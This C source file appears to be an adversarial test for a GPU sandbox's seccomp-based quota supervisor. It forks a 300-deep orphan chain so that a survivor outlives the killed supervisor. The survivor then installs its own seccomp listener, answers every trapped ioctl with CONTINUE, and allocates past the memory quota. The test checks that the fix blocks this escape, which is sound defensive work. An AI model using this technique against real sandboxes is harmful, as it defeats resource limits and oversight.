/* SPDX-License-Identifier: MIT */
/*
 * outlive - a task that outlives its supervisor installs its own seccomp
 * listener, answers CONTINUE to itself, and allocates past the quota.
 *
 * Usage: outlive REPORT_FILE
 *
 * The main process allocates 256 MiB (must work under --mem 1g), then
 * starts a chain of OUTLIVE_DEPTH processes, each forking the next and
 * exiting, deeper than any number of clean-up rounds (the old supervisor
 * killed its orphans in 200). The last one, the survivor, tries every
 * OUTLIVE_POLL_MS to install a filter of its own with a new listener:
 * while the supervisor's listener is open the kernel says EBUSY. Once it
 * gets one, a thread of its own answers every trapped ioctl with CONTINUE
 * and it opens a fresh client and allocates OUTLIVE_CHUNKS x 256 MiB
 * (3 GiB), which then reach the driver unchecked.
 *
 * The harness (tests/adv/run.sh) kills gpusandbox with SIGKILL from
 * outside once the report says "ready", appends "KILLED" to the report,
 * and waits. The fix: no line from the workload after KILLED (the kernel
 * ended every task of the sandbox with its init), and the fake driver's
 * account never passes the quota. Without gpusandbox (the baseline) the
 * first try gets a listener and the fake grants the 3 GiB.
 *
 * Report lines (appended, one write each, fsync'd: we may die any time):
 *   before status=0x...          main process, under the supervisor
 *   ready depth=N                the survivor exists
 *   listener try=N errno=NAME    a refused attempt (every 10th is written)
 *   listener ok try=N
 *   alloc i=N status=0x...       each chunk through the self-served filter
 *   END granted=N
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "adv.h"

#define OUTLIVE_DEPTH    300
#define OUTLIVE_CHUNKS   12     /* 12 x 256 MiB = 3 GiB */
#define OUTLIVE_TRIES    200    /* x OUTLIVE_POLL_MS = 10 s */
#define OUTLIVE_POLL_MS  50
#define OUTLIVE_LOG_EVERY 10
#define MAIN_WAIT_TRIES  300    /* the main process waits for END, 15 s */
#define NS_PER_MS        1000000L

static int report_fd = -1;
static const char *report_path;

__attribute__((format(printf, 1, 2)))
static void report(const char *fmt, ...)
{
	char line[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(line) - 2)
		n = (int)sizeof(line) - 2;
	line[n++] = '\n';
	if (write(report_fd, line, (size_t)n) == n)
		(void)fsync(report_fd);
}

static void sleep_ms(long ms)
{
	struct timespec t = { ms / 1000, (ms % 1000) * NS_PER_MS };

	nanosleep(&t, NULL);
}

/* Every ioctl of the native ABI goes to the listener; all else runs. */
static long install_own_listener(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_ioctl, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { .len = sizeof(code) / sizeof(code[0]), .filter = code };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		return -1;
	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
}

static int own_listener = -1;

/* The self-made supervisor: lets every trapped call through. Started
 * before the filter, so it is not under it. */
static void *answer_continue(void *arg)
{
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;

	(void)arg;
	while (__atomic_load_n(&own_listener, __ATOMIC_ACQUIRE) < 0)
		sleep_ms(1);
	for (;;) {
		memset(&req, 0, sizeof(req));
		if (ioctl(own_listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			continue;
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		(void)ioctl(own_listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
	return NULL;
}

static void survivor(void)
{
	struct rmc_session s;
	pthread_t t;
	int granted = 0;
	long fd = -1;

	report("ready depth=%d", OUTLIVE_DEPTH);
	if (pthread_create(&t, NULL, answer_continue, NULL) != 0) {
		report("END pthread_create failed");
		_exit(ADV_EXIT_SETUP);
	}
	for (int i = 0; i < OUTLIVE_TRIES && fd < 0; i++) {
		fd = install_own_listener();
		if (fd < 0 && i % OUTLIVE_LOG_EVERY == 0)
			report("listener try=%d errno=%s", i, strerrorname_np(errno));
		if (fd >= 0)
			report("listener ok try=%d", i);
		else
			sleep_ms(OUTLIVE_POLL_MS);
	}
	if (fd < 0) {
		report("END granted=0");
		_exit(0);
	}
	__atomic_store_n(&own_listener, (int)fd, __ATOMIC_RELEASE);
	if (rmc_session_open(&s, -1) != NV_OK) {
		report("END session failed granted=0");
		_exit(0);
	}
	for (int i = 0; i < OUTLIVE_CHUNKS; i++) {
		rmc_status_t st = adv_alloc_rm(&s, NULL, rmc_next_handle(&s), ADV_CHUNK);
		report("alloc i=%d status=0x%x", i, st);
		granted += st == NV_OK;
	}
	report("END granted=%d", granted);
	_exit(0);
}

/* Each link forks the next and exits: the survivor is an orphan at the
 * end of a chain deeper than any bounded clean-up. */
static void start_chain(void)
{
	for (int depth = 0; depth < OUTLIVE_DEPTH; depth++) {
		pid_t p = fork();

		if (p < 0)
			_exit(ADV_EXIT_SETUP);
		if (p > 0)
			_exit(0);
	}
	survivor();
}

static int report_has_end(void)
{
	char buf[8192];
	int fd = open(report_path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = '\0';
	return strstr(buf, "\nEND") != NULL;
}

int main(int argc, char **argv)
{
	struct rmc_session s;
	rmc_status_t st;
	pid_t p;

	if (argc < 2) {
		fprintf(stderr, "usage: outlive REPORT_FILE\n");
		return ADV_EXIT_SETUP;
	}
	report_path = argv[1];
	report_fd = open(report_path, O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0644);
	if (report_fd < 0) {
		perror(report_path);
		return ADV_EXIT_SETUP;
	}
	adv_session_or_die(&s, -1, "outlive");
	st = adv_alloc_rm(&s, NULL, rmc_next_handle(&s), ADV_CHUNK);
	report("before status=0x%x", st);
	p = fork();
	if (p < 0)
		return ADV_EXIT_SETUP;
	if (p == 0)
		start_chain();
	/* Under gpusandbox the harness kills the supervisor meanwhile; bare,
	 * we only wait for the survivor to finish. */
	for (int i = 0; i < MAIN_WAIT_TRIES && !report_has_end(); i++)
		sleep_ms(OUTLIVE_POLL_MS);
	return 0;
}
